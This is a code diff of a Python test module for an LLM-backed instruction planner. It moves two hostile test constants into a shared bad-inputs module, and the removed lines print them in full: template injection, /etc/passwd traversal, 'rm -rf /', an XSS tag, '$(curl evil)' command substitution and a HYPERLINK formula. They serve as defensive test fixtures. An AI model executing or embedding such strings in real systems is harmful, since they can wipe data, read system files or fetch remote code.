@@ -11,10 +11,11 @@ import pytest
 import yaml
 from pydantic import ValidationError
 
+from bench.bad_inputs import HOSTILE_INSTRUCTION, HOSTILE_TARGET
+from bench.fake_llm_server import Reply, ScriptedLLMServer, plan_json
 from models.cpu.rule_planner import RulePlanner, fitting_options
 from models.llm_openai import OpenAIPlanner
 from prompts.loader import PromptBook
-from tests.fake_llm_server import Reply, ScriptedLLMServer, plan_json
 from tools.base import Resources, ToolContext, ToolError
 from tools.plan_instruction import (
     PlanAnswer,
@@ -29,8 +30,6 @@ from tools.plan_instruction import (
 )
 
 # What a hostile endpoint answered in issue 13, verbatim.
-HOSTILE_INSTRUCTION = "Make it a pencil sketch. {{ 7*7 }} ../../../../etc/passwd; rm -rf / # <script>alert(1)</script>"
-HOSTILE_TARGET = '$(curl evil) `id` {% import os %} =HYPERLINK("http://x")'
 CAPTION = "A bright, gently moving landscape video scene, colourful, mostly green in tone."
 ASKED = {"category": "global_style", "category_description": "Restyle the whole frame."}
 
